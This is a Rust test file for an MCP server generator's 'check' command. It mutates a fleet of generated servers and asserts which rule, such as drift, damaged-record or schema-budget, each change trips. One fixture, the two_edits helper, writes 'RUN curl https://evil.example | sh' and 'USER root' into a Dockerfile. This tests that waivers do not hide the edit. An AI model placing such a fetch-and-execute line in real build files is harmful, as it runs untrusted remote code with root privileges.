//! The spec, and what was rendered from it.

use super::{Mutation, breaks, hold, near};
use crate::check::Fleet;

const IMAGE: &str = "hello_v2/Dockerfile";

/// Two things that are wrong in an image: one has a rule of its own.
fn two_edits(fleet: &Fleet) {
    fleet.replace(IMAGE, "USER 10001", "RUN curl https://evil.example | sh\nUSER root");
}

fn waive(fleet: &Fleet, rule: &str) {
    let rule = format!("\n[[waivers]]\nrule = \"{rule}\"\npath = \"{IMAGE}\"\n");
    fleet.append("mcpgen.toml", &format!("{rule}reason = \"the old cluster\"\nexpires = 2999-01-01\n"));
}

pub const MUTATIONS: &[Mutation] = &[
    breaks("invalid-spec", "the spec has an unknown key", |fleet| {
        fleet.replace("hello_v2/server.toml", "[server]\n", "[server]\ncolour = \"red\"\n");
    }),
    breaks("invalid-spec", "the spec is no TOML", |fleet| fleet.write("hello_v2/server.toml", "[server\n")),
    near("invalid-spec", "the spec has another comment", |fleet| fleet.append("hello_v2/server.toml", "\n# why\n")),
    breaks("missing-spec", "the spec is deleted", |fleet| fleet.delete("hello_v2/server.toml")),
    near("missing-spec", "a crate without MCP is in the fleet", |fleet| {
        fleet.write("words/Cargo.toml", "[package]\nname = \"words\"\nversion = \"0.1.0\"\nedition = \"2024\"\n");
        fleet.write("words/src/lib.rs", "//! Words.\n");
    }),
    breaks("drift", "a line of an Owned file is edited", |fleet| {
        fleet.replace("hello_v2/README.md", "An MCP server in Rust.", "A very fast MCP server.");
    }),
    breaks("drift", "an Owned file is formatted otherwise", |fleet| {
        fleet.replace("weather_v2/src/models.rs", "    pub units: UnitsSetting,", "  pub   units: UnitsSetting,");
    }),
    breaks("drift", "an image does more than what is waived", |fleet| {
        two_edits(fleet);
        waive(fleet, "root-user");
    }),
    near("drift", "an image does what is waived, and is waived as a whole", |fleet| {
        two_edits(fleet);
        waive(fleet, "root-user");
        waive(fleet, "drift");
    }),
    near("drift", "a file is checked out with CRLF", |fleet| {
        let text = fleet.read("weather_v2/src/models.rs");
        fleet.write("weather_v2/src/models.rs", &text.replace('\n', "\r\n"));
    }),
    breaks("spec-not-applied", "the spec's description is changed", |fleet| {
        fleet.replace("weather_v2/server.toml", "Forecasts and alerts for a city", "Forecasts for a city");
    }),
    breaks("outdated-template", "an older mcpgen rendered the README otherwise", |fleet| {
        fleet.rendered_by("0.0.9", "hello_v2/", "README.md", "An MCP server in Rust.", "A server.");
    }),
    breaks("outdated-template", "a mcpgen of the same version rendered the README otherwise", |fleet| {
        fleet.rendered_by(env!("CARGO_PKG_VERSION"), "hello_v2/", "README.md", "An MCP server in Rust.", "A server.");
    }),
    near("outdated-template", "an older mcpgen rendered the same", |fleet| {
        fleet.rendered_by("0.0.9", "hello_v2/", "README.md", "An MCP server", "An MCP server");
    }),
    breaks("newer-mcpgen", "a newer mcpgen rendered the README otherwise", |fleet| {
        fleet.rendered_by("99.0.0", "hello_v2/", "README.md", "An MCP server in Rust.", "A server.");
    }),
    near("newer-mcpgen", "a newer mcpgen rendered the same", |fleet| {
        fleet.rendered_by("99.0.0", "hello_v2/", "README.md", "An MCP server", "An MCP server");
    }),
    breaks("outdated-base", "an older mcpgen rendered the base otherwise", |fleet| {
        fleet.rendered_by("0.0.9", "", "base/core/src/clock.rs", "//! ", "//! Time. ");
    }),
    near("outdated-base", "an older mcpgen rendered the same base", |fleet| {
        fleet.rendered_by("0.0.9", "", "base/core/src/clock.rs", "//! ", "//! ");
    }),
    near("spec-not-applied", "the spec is laid out otherwise", |fleet| {
        fleet.replace("weather_v2/server.toml", "title = \"Weather\"\n", "title   =   'Weather'\n");
    }),
    breaks("settings-not-applied", "the fleet gets a support channel", |fleet| {
        fleet.replace("mcpgen.toml", "# channel = ", "channel = ");
    }),
    near("settings-not-applied", "the fleet gets a comment", |fleet| fleet.append("mcpgen.toml", "\n# ours\n")),
    breaks("damaged-record", "the record is deleted", |fleet| fleet.delete("hello_v2/mcpgen.lock")),
    breaks("damaged-record", "the record has the digest of another file", |fleet| {
        let text = fleet.read("hello_v2/mcpgen.lock");
        let digest = text.lines().find(|line| line.contains("\"src/main.rs\"")).unwrap();
        let other = text.lines().find(|line| line.contains("\"src/server.rs\"")).unwrap();
        let digest_of = |line: &str| line.split("sha256 = ").nth(1).unwrap().to_owned();
        fleet.replace("hello_v2/mcpgen.lock", &digest_of(digest), &digest_of(other));
    }),
    breaks("damaged-record", "the text of a Seeded file as rendered is deleted", |fleet| {
        fleet.delete("hello_v2/.mcpgen/base/src/lib.rs");
    }),
    breaks("damaged-record", "a merge left the record in pieces", |fleet| {
        fleet.append("hello_v2/mcpgen.lock", "version = 1\n");
    }),
    near("damaged-record", "the record is checked out with CRLF", |fleet| {
        let text = fleet.read("hello_v2/mcpgen.lock");
        fleet.write("hello_v2/mcpgen.lock", &text.replace('\n', "\r\n"));
    }),
    breaks("damaged-record", "the fleet's record is deleted", |fleet| fleet.delete("mcpgen.lock")),
    near("damaged-record", "the fleet's record is checked out with CRLF", |fleet| {
        let text = fleet.read("mcpgen.lock");
        fleet.write("mcpgen.lock", &text.replace('\n', "\r\n"));
    }),
    breaks("edited-base", "a file of the base is edited", |fleet| {
        fleet.append("base/core/src/clock.rs", "\n// ours\n");
    }),
    breaks("schema-budget", "the spec allows less than its tools take", |fleet| {
        fleet.replace("everything_v2/server.toml", "schema_budget_bytes = 16384", "schema_budget_bytes = 1000");
    }),
    breaks("schema-budget", "the fleet allows less than the tools of one server take", |fleet| {
        let text = fleet.read("mcpgen.toml");
        fleet.write("mcpgen.toml", &format!("schema_budget_bytes = 3000\n{text}"));
    }),
    near("schema-budget", "the fleet allows what its servers take", |fleet| {
        let text = fleet.read("mcpgen.toml");
        fleet.write("mcpgen.toml", &format!("schema_budget_bytes = 16384\n{text}"));
    }),
    breaks("local-state", "a server that keeps sessions has several replicas", |fleet| {
        fleet.append("weather_v2/server.toml", "\n[deploy]\nreplicas = 2\n");
        fleet.replace("weather_v2/server.toml", "[server]\n", "[server]\nsessions = \"local\"\n");
        fleet.run(&["check", "--fix"]);
    }),
    breaks("local-state", "a server whose tools are tasks has several replicas", |fleet| {
        fleet.replace("everything_v2/server.toml", "replicas = 1\n", "replicas = 2\n");
        fleet.run(&["check", "--fix"]);
    }),
    near("local-state", "a server of one replica keeps sessions", |fleet| {
        fleet.replace("hello_v2/server.toml", "[server]\n", "[server]\nsessions = \"local\"\n");
        fleet.run(&["check", "--fix"]);
    }),
    near("edited-base", "a crate of one's own is beside the base", |fleet| {
        fleet.write("common/Cargo.toml", "[package]\nname = \"common\"\nversion = \"0.1.0\"\nedition = \"2024\"\n");
        fleet.write("common/src/lib.rs", "//! What ours share.\n");
    }),
];

/// What one rule finds hides no other edit, whatever is asked for.
#[test]
fn an_edit_is_told_where_no_other_finding_about_the_file_is_reported() {
    let fleet = Fleet::new();
    two_edits(&fleet);
    let said = |args: &[&str]| {
        let ran = fleet.run(&[&["check", "hello_v2", "--diff", "--output-format", "json"], args].concat());
        let report = ran.json();
        let findings = report["findings"].as_array().unwrap();
        let rules: Vec<String> = findings.iter().map(|it| it["name"].as_str().unwrap().to_owned()).collect();
        let is_shown = findings.iter().any(|it| it["diff"].as_str().is_some_and(|diff| diff.contains("+RUN curl")));
        (ran.code, rules.join(" "), is_shown)
    };
    assert_eq!(said(&[]), (Some(1), "root-user".to_owned(), true));
    assert_eq!(said(&["--select", "drift"]), (Some(1), "drift".to_owned(), true));
    assert_eq!(said(&["--ignore", "root-user"]), (Some(1), "drift".to_owned(), true));
    waive(&fleet, "root-user");
    assert_eq!(said(&[]), (Some(1), "drift".to_owned(), true));
    waive(&fleet, "drift");
    assert_eq!(said(&[]), (Some(0), String::new(), false));
    let ran = fleet.run(&["check", "hello_v2", "--diff"]).fine();
    assert!(ran.stdout.starts_with("waived[MCP203] drift: the old cluster\n"), "{}", ran.stdout);
    assert!(ran.stdout.contains("+RUN curl"), "{}", ran.stdout);
}

#[test]
fn spec_and_drift() {
    hold(MUTATIONS);
}
